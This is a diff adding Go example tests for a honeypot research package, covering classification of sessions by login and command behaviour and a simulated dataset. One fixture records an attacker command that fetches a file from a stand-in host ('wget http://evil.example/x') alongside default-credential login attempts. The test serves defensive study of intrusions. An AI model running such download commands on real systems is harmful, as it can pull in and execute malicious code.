@@ -1,0 +1,41 @@
+package honeyfarm_test
+
+import (
+	"fmt"
+
+	"honeyfarm"
+)
+
+// ExampleClassify walks a record through the Figure 5 session taxonomy.
+func ExampleClassify() {
+	scan := &honeyfarm.SessionRecord{}
+	scouting := &honeyfarm.SessionRecord{
+		Logins: []honeyfarm.LoginAttempt{{User: "admin", Password: "admin"}},
+	}
+	intrusion := &honeyfarm.SessionRecord{
+		Logins:   []honeyfarm.LoginAttempt{{User: "root", Password: "1234", Success: true}},
+		Commands: []honeyfarm.CommandRecord{{Input: "wget http://evil.example/x", Known: true}},
+		URIs:     []string{"http://evil.example/x"},
+	}
+	fmt.Println(honeyfarm.Classify(scan))
+	fmt.Println(honeyfarm.Classify(scouting))
+	fmt.Println(honeyfarm.Classify(intrusion))
+	// Output:
+	// NO_CRED
+	// FAIL_LOG
+	// CMD+URI
+}
+
+// ExampleSimulate generates a small calibrated dataset and reads one
+// headline number.
+func ExampleSimulate() {
+	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
+		Seed: 1, TotalSessions: 5000, Days: 30, NumPots: 10,
+	})
+	if err != nil {
+		panic(err)
+	}
+	top := d.TopPasswords(1)
+	fmt.Println(len(d.Deployments), "honeypots; most-used successful password:", top[0].Value)
+	// Output: 10 honeypots; most-used successful password: 1234
+}
